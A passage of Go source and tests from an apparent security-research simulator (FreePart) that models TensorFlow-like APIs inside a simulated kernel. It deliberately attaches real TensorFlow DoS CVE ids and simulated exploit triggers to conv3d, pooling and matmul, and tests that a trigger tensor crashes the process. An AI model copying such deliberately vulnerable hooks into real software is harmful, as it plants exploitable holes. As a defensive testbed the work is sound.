	return buf.Bytes(), nil
}

// DecodeCall parses a serialized Call.
func DecodeCall(b []byte) (Call, error) {
	var c Call
	if err := gob.NewDecoder(bytes.NewReader(b)).Decode(&c); err != nil {
		return Call{}, fmt.Errorf("framework: decode call: %w", err)
	}
	return c, nil
}

// EncodeReply serializes a Reply.
func EncodeReply(r Reply) ([]byte, error) {
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(r); err != nil {
		return nil, fmt.Errorf("framework: encode reply: %w", err)
	}
	return buf.Bytes(), nil
}

// DecodeReply parses a serialized Reply.
func DecodeReply(b []byte) (Reply, error) {
	var r Reply
	if err := gob.NewDecoder(bytes.NewReader(b)).Decode(&r); err != nil {
		return Reply{}, fmt.Errorf("framework: decode reply: %w", err)
	}
	return r, nil
}
