package framework

import (
	"fmt"
	"sort"
	"sync"

	"freepart.dev/freepart/internal/kernel"
)

// Impl is a framework API implementation. It executes inside the process
// carried by ctx; all of its memory and I/O flows through the simulation.
type Impl func(ctx *Ctx, args []Value) ([]Value, error)

// API is the metadata + implementation of one framework function.
type API struct {
	// Name is the fully qualified API name, e.g. "cv.imread".
	Name string
	// Framework is the owning framework, e.g. "simcv".
	Framework string
	// TrueType is the ground-truth categorization, used to score the
	// analyzer (the paper validates categorization manually, §5).
	TrueType APIType
	// Neutral marks type-neutral APIs whose home partition follows the
	// calling context (§4.2.2).
	Neutral bool
	// StaticOps are the data-flow operations visible to static analysis.
	StaticOps []Op
	// DynamicOnly marks APIs whose flows static analysis misses (indirect
	// calls, dynamic dispatch); their ops surface only in traces — the gap
	// the hybrid analysis exists to close (§4.2.2).
	DynamicOnly bool
	// Syscalls lists the system calls the API requires (for Table 7 /
	// Fig. 12 derivation). FDLabels gives per-syscall fd-scope labels.
	Syscalls []kernel.Sysno
	// FDLabels maps fd-scoped syscalls to the resource labels they touch.
	FDLabels map[kernel.Sysno][]string
	// InitSyscalls are needed only during first execution (§4.4.1:
	// mprotect/connect during initialization).
	InitSyscalls []kernel.Sysno
	// Stateful marks APIs that keep internal state across calls (§A.2.4).
	Stateful bool
	// SharedState marks stateful APIs whose state is shared with other
	// APIs (the second, harder class of §A.6).
	SharedState bool
	// Intensity scales compute cost (1 = one linear pass over the input).
	Intensity float64
	// CVEs lists vulnerability ids residing in this API.
	CVEs []string
	// Impl executes the API.
	Impl Impl
}

// HasCVE reports whether the API contains the given vulnerability.
func (a *API) HasCVE(cve string) bool {
	for _, c := range a.CVEs {
		if c == cve {
			return true
		}
	}
	return false
}

// Vulnerable reports whether the API has any known CVE.
func (a *API) Vulnerable() bool { return len(a.CVEs) > 0 }

// Exec runs the API inside ctx, charging fixed dispatch cost and setting
// the context's current-API name for tracing.
func (a *API) Exec(ctx *Ctx, args []Value) ([]Value, error) {
	if a.Impl == nil {
		return nil, fmt.Errorf("framework: %s has no implementation", a.Name)
	}
	if !ctx.P.Alive() {
		return nil, fmt.Errorf("%w: cannot run %s", kernel.ErrProcessDead, a.Name)
	}
	prev := ctx.api
	ctx.api = a.Name
	defer func() { ctx.api = prev }()
	ctx.K.Clock.Advance(ctx.K.Cost.APIFixed)
	return a.Impl(ctx, args)
}

// Registry holds a set of APIs, keyed by name. Safe for concurrent reads
// after construction.
type Registry struct {
	mu   sync.RWMutex
	apis map[string]*API
}

// NewRegistry creates an empty registry.
func NewRegistry() *Registry {
	return &Registry{apis: make(map[string]*API)}
}

// Register adds an API; duplicate names panic (programmer error in a
// framework definition).
func (r *Registry) Register(a *API) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if _, dup := r.apis[a.Name]; dup {
		panic(fmt.Sprintf("framework: duplicate API %s", a.Name))
	}
	if a.Intensity == 0 {
		a.Intensity = 1
	}
	r.apis[a.Name] = a
}

// Get looks up an API by name.
func (r *Registry) Get(name string) (*API, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	a, ok := r.apis[name]
	return a, ok
}

// MustGet looks up an API, panicking if absent (for test/app construction).
func (r *Registry) MustGet(name string) *API {
	a, ok := r.Get(name)
	if !ok {
		panic(fmt.Sprintf("framework: unknown API %s", name))
	}
	return a
}

// Len reports the number of registered APIs.
func (r *Registry) Len() int {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return len(r.apis)
}

// All returns every API sorted by name.
func (r *Registry) All() []*API {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := make([]*API, 0, len(r.apis))
	for _, a := range r.apis {
		out = append(out, a)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// ByFramework returns the APIs of one framework, sorted by name.
func (r *Registry) ByFramework(fw string) []*API {
	var out []*API
	for _, a := range r.All() {
		if a.Framework == fw {
			out = append(out, a)
		}
	}
	return out
}

// Merge copies every API from other into r.
func (r *Registry) Merge(other *Registry) {
	for _, a := range other.All() {
		r.Register(a)
	}
}

// Frameworks returns the distinct framework names present, sorted.
func (r *Registry) Frameworks() []string {
	seen := make(map[string]bool)
	for _, a := range r.All() {
		seen[a.Framework] = true
	}
	out := make([]string, 0, len(seen))
	for f := range seen {
		out = append(out, f)
	}
	sort.Strings(out)
	return out
}
