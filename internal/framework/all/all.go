// Package all assembles the complete API registry across every supported
// framework (simcv, simcaffe, simtorch, simflow) — the "frameworks used by
// the host program" input of the FreePart workflow (Fig. 5).
package all

import (
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/simcaffe"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/framework/simflow"
	"freepart.dev/freepart/internal/framework/simtorch"
)

// Registry returns a fresh merged registry of every framework's APIs.
// Each call builds new API values so tests can mutate metadata safely.
func Registry() *framework.Registry {
	r := framework.NewRegistry()
	r.Merge(simcv.Registry())
	r.Merge(simcaffe.Registry())
	r.Merge(simtorch.Registry())
	r.Merge(simflow.Registry())
	return r
}
