package simflow_test

import (
	"errors"
	"math"
	"testing"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/simflow"
	"freepart.dev/freepart/internal/kernel"
)

type env struct {
	k   *kernel.Kernel
	ctx *framework.Ctx
	reg *framework.Registry
}

func newEnv(t *testing.T) *env {
	t.Helper()
	k := kernel.New()
	return &env{k: k, ctx: framework.NewCtx(k, k.Spawn("test")), reg: simflow.Registry()}
}

func (e *env) call(t *testing.T, name string, args ...framework.Value) []framework.Value {
	t.Helper()
	out, err := e.reg.MustGet(name).Exec(e.ctx, args)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return out
}

func (e *env) tensor2D(t *testing.T, rows, cols int, vals []float64) framework.Value {
	t.Helper()
	id, tt, err := e.ctx.NewTensor(rows, cols)
	if err != nil {
		t.Fatal(err)
	}
	if err := tt.SetValues(vals); err != nil {
		t.Fatal(err)
	}
	return framework.Obj(id)
}

func TestGetFileMemoryCopyViaFile(t *testing.T) {
	e := newEnv(t)
	e.k.Net.QueueInbound("storage.googleapis.com", []byte("weights-blob"))
	out := e.call(t, "tf.keras.utils.get_file", framework.Str("w.bin"))
	b, err := e.ctx.Blob(out[0])
	if err != nil {
		t.Fatal(err)
	}
	got, _ := b.Bytes()
	if string(got) != "weights-blob" {
		t.Fatalf("get_file = %q", got)
	}
	if !e.k.FS.Exists("/tmp/w.bin") {
		t.Fatal("get_file should stage through a temp file")
	}
	// Static ops must expose the full chain (for the §4.2.1 reduction).
	api := e.reg.MustGet("tf.keras.utils.get_file")
	if len(api.StaticOps) != 3 {
		t.Fatalf("get_file static ops = %v", api.StaticOps)
	}
}

func TestImageDatasetFromDirectory(t *testing.T) {
	e := newEnv(t)
	e.k.FS.WriteFile("/ds/a", simflow.EncodeDataset([]float64{1, 2}))
	e.k.FS.WriteFile("/ds/b", simflow.EncodeDataset([]float64{3}))
	out := e.call(t, "tf.keras.preprocessing.image_dataset_from_directory", framework.Str("/ds/"))
	tt, _ := e.ctx.Tensor(out[0])
	vals, _ := tt.Values()
	if len(vals) != 3 || vals[2] != 3 {
		t.Fatalf("dataset = %v", vals)
	}
	if _, err := e.reg.MustGet("tf.keras.preprocessing.image_dataset_from_directory").
		Exec(e.ctx, []framework.Value{framework.Str("/empty/")}); err == nil {
		t.Fatal("empty directory should fail")
	}
}

func TestConv3d(t *testing.T) {
	e := newEnv(t)
	id, tt, _ := e.ctx.NewTensor(3, 3, 3)
	vals := make([]float64, 27)
	for i := range vals {
		vals[i] = 1
	}
	_ = tt.SetValues(vals)
	out := e.call(t, "tf.nn.conv3d", framework.Obj(id))
	ot, _ := e.ctx.Tensor(out[0])
	v, _ := ot.AtFlat(0)
	if ot.Len() != 1 || v != 1 {
		t.Fatalf("conv3d = len %d, v %v", ot.Len(), v)
	}
}

func TestConv3dExploit(t *testing.T) {
	e := newEnv(t)
	trig := simflow.EncodeTriggerTensor(framework.Trigger("CVE-2021-29513", nil))
	// Pad to a 3x3x3 cube.
	for len(trig) < 27 {
		trig = append(trig, 0)
	}
	id, tt, _ := e.ctx.NewTensor(3, 3, 3)
	_ = tt.SetValues(trig[:27])
	_, err := e.reg.MustGet("tf.nn.conv3d").Exec(e.ctx, []framework.Value{framework.Obj(id)})
	if !errors.Is(err, framework.ErrExploited) {
		t.Fatalf("conv3d exploit = %v", err)
	}
	if e.ctx.P.Alive() {
		t.Fatal("process should crash")
	}
}

func TestPoolsAndMatmulCVEAssignment(t *testing.T) {
	e := newEnv(t)
	for api, cve := range map[string]string{
		"tf.nn.conv3d":   "CVE-2021-29513",
		"tf.nn.avg_pool": "CVE-2021-29618",
		"tf.nn.max_pool": "CVE-2021-37661",
		"tf.matmul":      "CVE-2021-41198",
	} {
		if !e.reg.MustGet(api).HasCVE(cve) {
			t.Errorf("%s should carry %s", api, cve)
		}
	}
}

func TestAvgMaxPool(t *testing.T) {
	e := newEnv(t)
	in := e.tensor2D(t, 2, 2, []float64{1, 3, 5, 7})
	av, _ := e.ctx.Tensor(e.call(t, "tf.nn.avg_pool", in)[0])
	v, _ := av.AtFlat(0)
	if v != 4 {
		t.Fatalf("avg_pool = %v", v)
	}
	mx, _ := e.ctx.Tensor(e.call(t, "tf.nn.max_pool", in)[0])
	v, _ = mx.AtFlat(0)
	if v != 7 {
		t.Fatalf("max_pool = %v", v)
	}
}

func TestMatmulShapes(t *testing.T) {
	e := newEnv(t)
	a := e.tensor2D(t, 1, 2, []float64{2, 3})
	b := e.tensor2D(t, 2, 1, []float64{4, 5})
	out, _ := e.ctx.Tensor(e.call(t, "tf.matmul", a, b)[0])
	v, _ := out.AtFlat(0)
	if v != 23 {
		t.Fatalf("matmul = %v", v)
	}
	if _, err := e.reg.MustGet("tf.matmul").Exec(e.ctx, []framework.Value{a, a}); err == nil {
		t.Fatal("incompatible matmul should fail")
	}
}

func TestEstimatorTrainAccumulatesState(t *testing.T) {
	e := newEnv(t)
	stID, st, _ := e.ctx.NewTensor(2)
	data := e.tensor2D(t, 1, 4, []float64{1, 1, 1, 1})
	e.call(t, "tf.estimator.DNNClassifier.train", framework.Obj(stID), data)
	e.call(t, "tf.estimator.DNNClassifier.train", framework.Obj(stID), data)
	steps, _ := st.AtFlat(0)
	loss, _ := st.AtFlat(1)
	if steps != 2 {
		t.Fatalf("steps = %v", steps)
	}
	if loss <= 0 {
		t.Fatalf("loss EMA = %v", loss)
	}
	api := e.reg.MustGet("tf.estimator.DNNClassifier.train")
	if !api.Stateful || !api.SharedState {
		t.Fatal("train should be stateful+shared")
	}
}

func TestOneHotResizeCast(t *testing.T) {
	e := newEnv(t)
	oh, _ := e.ctx.Tensor(e.call(t, "tf.one_hot", framework.Int64(2), framework.Int64(4))[0])
	v, _ := oh.AtFlat(2)
	if oh.Len() != 4 || v != 1 {
		t.Fatal("one_hot wrong")
	}
	if _, err := e.reg.MustGet("tf.one_hot").Exec(e.ctx, []framework.Value{framework.Int64(9), framework.Int64(4)}); err == nil {
		t.Fatal("out-of-range one_hot should fail")
	}
	in := e.tensor2D(t, 2, 2, []float64{1, 2, 3, 4})
	rs, _ := e.ctx.Tensor(e.call(t, "tf.image.resize", in, framework.Int64(4), framework.Int64(4))[0])
	if sh := rs.Shape(); sh[0] != 4 || sh[1] != 4 {
		t.Fatalf("resize shape = %v", sh)
	}
	ct, _ := e.ctx.Tensor(e.call(t, "tf.cast", e.tensor2D(t, 1, 2, []float64{1.7, -2.3}))[0])
	a, _ := ct.AtFlat(0)
	b, _ := ct.AtFlat(1)
	if a != 1 || b != -2 {
		t.Fatalf("cast = %v %v", a, b)
	}
}

func TestReduceMeanArgmax(t *testing.T) {
	e := newEnv(t)
	in := e.tensor2D(t, 1, 4, []float64{1, 5, 2, 0})
	if got := e.call(t, "tf.reduce_mean", in)[0].Float; got != 2 {
		t.Fatalf("reduce_mean = %v", got)
	}
	if got := e.call(t, "tf.argmax", in)[0].Int; got != 1 {
		t.Fatalf("argmax = %v", got)
	}
}

func TestSaveWeights(t *testing.T) {
	e := newEnv(t)
	w := e.tensor2D(t, 1, 2, []float64{0.5, -0.5})
	e.call(t, "tf.keras.Model.save_weights", w, framework.Str("/w"))
	raw, err := e.k.FS.ReadFile("/w")
	if err != nil || len(raw) != 16 {
		t.Fatalf("saved = %d bytes, %v", len(raw), err)
	}
	e.call(t, "tf.keras.preprocessing.image.save_img", w, framework.Str("/img"))
	if !e.k.FS.Exists("/img") {
		t.Fatal("save_img should write")
	}
}

func TestDebugDumpSharedState(t *testing.T) {
	e := newEnv(t)
	e.call(t, "tf.debugging.experimental.enable_dump_debug_info", framework.Str("/dbg"))
	if !e.k.FS.Exists("/dbg/dump.log") {
		t.Fatal("debug dump should write a log")
	}
}

func TestSoftplusMonotone(t *testing.T) {
	e := newEnv(t)
	in := e.tensor2D(t, 1, 3, []float64{-5, 0, 5})
	out, _ := e.ctx.Tensor(e.call(t, "tf.nn.softplus", in)[0])
	a, _ := out.AtFlat(0)
	b, _ := out.AtFlat(1)
	c, _ := out.AtFlat(2)
	if !(a < b && b < c) || math.Abs(b-math.Log(2)) > 1e-9 {
		t.Fatalf("softplus = %v %v %v", a, b, c)
	}
}
