// Package simflow is a miniature TensorFlow: dataset/file ingestion
// (including the memory-copy-via-file pattern of §4.2.1), tensor ops and
// pooling/convolution kernels carrying the paper's four TensorFlow CVEs
// (Table 5), a stateful estimator with checkpointable training state
// (§A.2.4), and model persistence.
package simflow

import (
	"encoding/binary"
	"fmt"
	"math"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// Name is the framework identifier.
const Name = "simflow"

// TensorFlow CVEs used in the evaluation (Table 5), placed at data
// processing APIs as the paper categorizes them.
const (
	CVEConv3dDoS  = "CVE-2021-29513" // DoS (tf.nn.conv3d)
	CVEAvgPoolDoS = "CVE-2021-29618" // DoS (tf.nn.avg_pool)
	CVEMaxPoolDoS = "CVE-2021-37661" // DoS (tf.nn.max_pool)
	CVEMatmulDoS  = "CVE-2021-41198" // DoS (tf.matmul)
)

func dpOps() []framework.Op {
	return []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageMem)}
}

func tensorArg(ctx *framework.Ctx, args []framework.Value, i int) (*object.Tensor, error) {
	if i >= len(args) {
		return nil, fmt.Errorf("simflow: missing tensor argument %d", i)
	}
	return ctx.Tensor(args[i])
}

func newOut(ctx *framework.Ctx, shape []int, vals []float64) (framework.Value, error) {
	id, t, err := ctx.NewTensor(shape...)
	if err != nil {
		return framework.Nil(), err
	}
	if err := t.SetValues(vals); err != nil {
		return framework.Nil(), err
	}
	return framework.Obj(id), nil
}

// EncodeDataset serializes float64 samples for image_dataset_from_directory
// and estimator training.
func EncodeDataset(vals []float64) []byte {
	out := make([]byte, 8*len(vals))
	for i, v := range vals {
		binary.BigEndian.PutUint64(out[i*8:], math.Float64bits(v))
	}
	return out
}

// decodeDataset parses a dataset file.
func decodeDataset(b []byte) ([]float64, error) {
	if len(b) == 0 || len(b)%8 != 0 {
		return nil, fmt.Errorf("simflow: dataset length %d not a float64 multiple", len(b))
	}
	vals := make([]float64, len(b)/8)
	for i := range vals {
		vals[i] = math.Float64frombits(binary.BigEndian.Uint64(b[i*8:]))
	}
	return vals, nil
}

// Registry builds the simflow API registry.
func Registry() *framework.Registry {
	r := framework.NewRegistry()

	// ---- Data loading ------------------------------------------------------

	r.Register(&framework.API{
		Name: "tf.keras.utils.get_file", Framework: Name, TrueType: framework.TypeLoading,
		// The paper's worked §4.2.1 example: download → stash in a temp
		// file → read back. Static ops expose the full chain; the analyzer
		// must reduce the FILE round trip away.
		StaticOps: []framework.Op{
			framework.WriteOp(framework.StorageMem, framework.StorageDev),
			framework.WriteOp(framework.StorageFile, framework.StorageMem),
			framework.WriteOp(framework.StorageMem, framework.StorageFile),
		},
		Syscalls: []kernel.Sysno{kernel.SysSocket, kernel.SysConnect, kernel.SysRecvfrom, kernel.SysOpenat, kernel.SysWrite, kernel.SysRead, kernel.SysClose},
		FDLabels: map[kernel.Sysno][]string{kernel.SysConnect: {"storage.googleapis.com"}},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 1 {
				return nil, fmt.Errorf("simflow: get_file needs a name")
			}
			host := "storage.googleapis.com"
			if err := ctx.K.NetConnect(ctx.P, host); err != nil {
				return nil, err
			}
			data, ok, err := ctx.NetDownload(host)
			if err != nil {
				return nil, err
			}
			if !ok {
				return nil, fmt.Errorf("simflow: no download queued for %q", args[0].Str)
			}
			tmp := "/tmp/" + args[0].Str
			if err := ctx.FileWrite(tmp, data); err != nil {
				return nil, err
			}
			raw, err := ctx.FileRead(tmp)
			if err != nil {
				return nil, err
			}
			id, _, err := ctx.NewBlob(raw)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id), framework.Str(tmp)}, nil
		},
	})

	r.Register(&framework.API{
		Name: "tf.keras.preprocessing.image_dataset_from_directory", Framework: Name,
		TrueType:  framework.TypeLoading,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysClose, kernel.SysGetcwd, kernel.SysLstat},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 1 {
				return nil, fmt.Errorf("simflow: image_dataset_from_directory needs a dir")
			}
			paths := ctx.K.FS.List(args[0].Str)
			if len(paths) == 0 {
				return nil, fmt.Errorf("simflow: empty dataset dir %s", args[0].Str)
			}
			var all []float64
			for _, p := range paths {
				raw, err := ctx.FileRead(p)
				if err != nil {
					return nil, err
				}
				vals, err := decodeDataset(raw)
				if err != nil {
					return nil, err
				}
				all = append(all, vals...)
			}
			ctx.Charge(len(all)*8, 1)
			v, err := newOut(ctx, []int{len(all)}, all)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	r.Register(&framework.API{
		Name: "tf.io.read_file", Framework: Name, TrueType: framework.TypeLoading,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysClose},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 1 {
				return nil, fmt.Errorf("simflow: read_file needs a path")
			}
			raw, err := ctx.FileRead(args[0].Str)
			if err != nil {
				return nil, err
			}
			id, _, err := ctx.NewBlob(raw)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id)}, nil
		},
	})

	// ---- Data processing ---------------------------------------------------

	conv3d := &framework.API{
		Name: "tf.nn.conv3d", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysFutex}, Intensity: 27,
		CVEs: []string{CVEConv3dDoS},
		Impl: nil, // set below (needs self-reference for MaybeExploit)
	}
	conv3d.Impl = func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
		in, err := tensorArg(ctx, args, 0)
		if err != nil {
			return nil, err
		}
		si := in.Shape()
		if len(si) != 3 || si[0] < 3 || si[1] < 3 || si[2] < 3 {
			return nil, fmt.Errorf("simflow: conv3d input %v", si)
		}
		vi, err := in.Values()
		if err != nil {
			return nil, err
		}
		if fired, err := exploitOnTensor(ctx, conv3d, vi); fired {
			return nil, err
		}
		ctx.Charge(in.Size(), 27)
		ctx.EmitMemOp()
		d, h, w := si[0], si[1], si[2]
		od, oh, ow := d-2, h-2, w-2
		out := make([]float64, od*oh*ow)
		for z := 0; z < od; z++ {
			for y := 0; y < oh; y++ {
				for x := 0; x < ow; x++ {
					s := 0.0
					for dz := 0; dz < 3; dz++ {
						for dy := 0; dy < 3; dy++ {
							for dx := 0; dx < 3; dx++ {
								s += vi[(z+dz)*h*w+(y+dy)*w+x+dx]
							}
						}
					}
					out[z*oh*ow+y*ow+x] = s / 27
				}
			}
		}
		v, err := newOut(ctx, []int{od, oh, ow}, out)
		if err != nil {
			return nil, err
		}
		return []framework.Value{v}, nil
	}
	r.Register(conv3d)

	pool := func(name, cve string, avg bool) *framework.API {
		var api *framework.API
		api = &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeProcessing,
			StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 4,
			CVEs: []string{cve},
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				in, err := tensorArg(ctx, args, 0)
				if err != nil {
					return nil, err
				}
				si := in.Shape()
				if len(si) != 2 || si[0] < 2 || si[1] < 2 {
					return nil, fmt.Errorf("simflow: %s input %v", name, si)
				}
				vi, err := in.Values()
				if err != nil {
					return nil, err
				}
				if fired, err := exploitOnTensor(ctx, api, vi); fired {
					return nil, err
				}
				ctx.Charge(in.Size(), 4)
				ctx.EmitMemOp()
				oh, ow := si[0]/2, si[1]/2
				out := make([]float64, oh*ow)
				for y := 0; y < oh; y++ {
					for x := 0; x < ow; x++ {
						a := vi[(2*y)*si[1]+2*x]
						b := vi[(2*y)*si[1]+2*x+1]
						c := vi[(2*y+1)*si[1]+2*x]
						d := vi[(2*y+1)*si[1]+2*x+1]
						if avg {
							out[y*ow+x] = (a + b + c + d) / 4
						} else {
							out[y*ow+x] = math.Max(math.Max(a, b), math.Max(c, d))
						}
					}
				}
				v, err := newOut(ctx, []int{oh, ow}, out)
				if err != nil {
					return nil, err
				}
				return []framework.Value{v}, nil
			},
		}
		return api
	}
	r.Register(pool("tf.nn.avg_pool", CVEAvgPoolDoS, true))
	r.Register(pool("tf.nn.max_pool", CVEMaxPoolDoS, false))

	matmul := &framework.API{
		Name: "tf.matmul", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysFutex}, Intensity: 8,
		CVEs: []string{CVEMatmulDoS},
	}
	matmul.Impl = func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
		a, err := tensorArg(ctx, args, 0)
		if err != nil {
			return nil, err
		}
		b, err := tensorArg(ctx, args, 1)
		if err != nil {
			return nil, err
		}
		sa, sb := a.Shape(), b.Shape()
		if len(sa) != 2 || len(sb) != 2 || sa[1] != sb[0] {
			return nil, fmt.Errorf("simflow: matmul %v x %v", sa, sb)
		}
		va, err := a.Values()
		if err != nil {
			return nil, err
		}
		if fired, err := exploitOnTensor(ctx, matmul, va); fired {
			return nil, err
		}
		vb, err := b.Values()
		if err != nil {
			return nil, err
		}
		ctx.Charge(a.Size()+b.Size(), float64(sa[1]))
		ctx.EmitMemOp()
		m, k, n := sa[0], sa[1], sb[1]
		out := make([]float64, m*n)
		for i := 0; i < m; i++ {
			for j := 0; j < n; j++ {
				s := 0.0
				for x := 0; x < k; x++ {
					s += va[i*k+x] * vb[x*n+j]
				}
				out[i*n+j] = s
			}
		}
		v, err := newOut(ctx, []int{m, n}, out)
		if err != nil {
			return nil, err
		}
		return []framework.Value{v}, nil
	}
	r.Register(matmul)

	ew := func(name string, f func(float64) float64) *framework.API {
		return &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeProcessing,
			StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				t, err := tensorArg(ctx, args, 0)
				if err != nil {
					return nil, err
				}
				vals, err := t.Values()
				if err != nil {
					return nil, err
				}
				ctx.Charge(t.Size(), 1)
				ctx.EmitMemOp()
				out := make([]float64, len(vals))
				for i, v := range vals {
					out[i] = f(v)
				}
				res, err := newOut(ctx, t.Shape(), out)
				if err != nil {
					return nil, err
				}
				return []framework.Value{res}, nil
			},
		}
	}
	r.Register(ew("tf.nn.relu", func(v float64) float64 { return math.Max(0, v) }))
	r.Register(ew("tf.nn.softplus", func(v float64) float64 { return math.Log1p(math.Exp(v)) }))
	r.Register(ew("tf.cast", func(v float64) float64 { return math.Trunc(v) }))
	r.Register(ew("tf.square", func(v float64) float64 { return v * v }))

	r.Register(&framework.API{
		Name: "tf.reduce_mean", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(t.Size(), 1)
			ctx.EmitMemOp()
			s := 0.0
			for _, v := range vals {
				s += v
			}
			return []framework.Value{framework.Float64(s / float64(len(vals)))}, nil
		},
	})

	r.Register(&framework.API{
		Name: "tf.argmax", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(t.Size(), 1)
			ctx.EmitMemOp()
			best := 0
			for i, v := range vals {
				if v > vals[best] {
					best = i
				}
			}
			return []framework.Value{framework.Int64(int64(best))}, nil
		},
	})

	r.Register(&framework.API{
		Name: "tf.one_hot", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 2 {
				return nil, fmt.Errorf("simflow: one_hot needs (index, depth)")
			}
			idx, depth := int(args[0].Int), int(args[1].Int)
			if depth <= 0 || idx < 0 || idx >= depth {
				return nil, fmt.Errorf("simflow: one_hot(%d, %d)", idx, depth)
			}
			vals := make([]float64, depth)
			vals[idx] = 1
			ctx.EmitMemOp()
			v, err := newOut(ctx, []int{depth}, vals)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	// tf.image.resize works on tensors shaped HxW.
	r.Register(&framework.API{
		Name: "tf.image.resize", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 2,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			in, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			if len(args) < 3 {
				return nil, fmt.Errorf("simflow: resize needs (tensor, h, w)")
			}
			nh, nw := int(args[1].Int), int(args[2].Int)
			si := in.Shape()
			if len(si) != 2 || nh <= 0 || nw <= 0 {
				return nil, fmt.Errorf("simflow: resize %v to %dx%d", si, nh, nw)
			}
			vi, err := in.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(in.Size(), 2)
			ctx.EmitMemOp()
			out := make([]float64, nh*nw)
			for y := 0; y < nh; y++ {
				for x := 0; x < nw; x++ {
					out[y*nw+x] = vi[(y*si[0]/nh)*si[1]+x*si[1]/nw]
				}
			}
			v, err := newOut(ctx, []int{nh, nw}, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	// DNNClassifier.train is the stateful API of §A.2.4: it accumulates
	// training state in a caller-held state tensor [steps, loss].
	r.Register(&framework.API{
		Name: "tf.estimator.DNNClassifier.train", Framework: Name,
		TrueType: framework.TypeProcessing, Stateful: true, SharedState: true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysFutex, kernel.SysGetrandom}, Intensity: 12,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			st, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			data, err := tensorArg(ctx, args, 1)
			if err != nil {
				return nil, err
			}
			if st.Len() < 2 {
				return nil, fmt.Errorf("simflow: train state needs [steps, loss]")
			}
			vals, err := data.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(data.Size(), 12)
			ctx.EmitMemOp()
			loss := 0.0
			for _, v := range vals {
				loss += v * v
			}
			loss = math.Sqrt(loss) / float64(len(vals))
			steps, _ := st.AtFlat(0)
			prev, _ := st.AtFlat(1)
			_ = st.SetFlat(0, steps+1)
			_ = st.SetFlat(1, 0.9*prev+0.1*loss)
			return []framework.Value{framework.Float64(loss)}, nil
		},
	})

	// enable_dump_debug_info reads profiling state other APIs write — the
	// shared-state debugging API discussed in §A.6.
	r.Register(&framework.API{
		Name: "tf.debugging.experimental.enable_dump_debug_info", Framework: Name,
		TrueType: framework.TypeProcessing, Stateful: true, SharedState: true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysOpenat, kernel.SysWrite, kernel.SysClose}, Intensity: 1,
